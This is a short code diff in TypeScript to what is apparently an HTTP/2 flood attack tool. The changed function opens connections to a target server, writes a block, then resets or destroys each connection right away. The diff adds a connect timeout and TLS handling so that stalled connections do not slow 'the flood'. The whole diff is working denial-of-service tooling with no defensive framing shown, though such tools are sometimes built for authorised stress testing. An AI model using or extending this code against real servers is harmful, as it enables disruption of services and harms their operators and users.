@@ -346,18 +346,36 @@ export async function runCutBlocks(target: ServerTarget, attack: H2FloodAttack, 
 /** One connection: the block written, then reset on the next turn of the event loop; null, or why it failed. */
 function cutOne(target: ServerTarget, block: Buffer): Promise<string | null> {
   return new Promise((resolve) => {
+    let settled = false;
+    const done = (why: string | null): void => {
+      if (settled) return;
+      settled = true;
+      clearTimeout(timer);
+      resolve(why);
+    };
+    // A connection that neither opens nor fails (a TLS handshake left hanging) must not hold the flood.
+    const timer = setTimeout(() => {
+      socket.destroy();
+      done(`no connection within ${CUT_CONNECT_MS / 1000} s`);
+    }, CUT_CONNECT_MS);
     const socket = connectTo(
       target,
       (s) => {
         s.on('error', () => undefined);
         s.write(block);
         setImmediate(() => {
-          s.resetAndDestroy();
-          resolve(null);
+          // A TLS socket cannot be reset from Node (its handle is TLS's): it is destroyed, a FIN (or a reset when the server's data waits unread).
+          if (target.tls) s.destroy();
+          else s.resetAndDestroy();
+          done(null);
         });
       },
-      (why) => resolve(why),
+      (why) => done(why),
     );
     socket.on('error', () => undefined);
+    socket.once('close', () => done('the connection closed before it opened'));
   });
 }
+
+/** How long one connection of `cut-blocks` may take to open. */
+const CUT_CONNECT_MS = 5000;
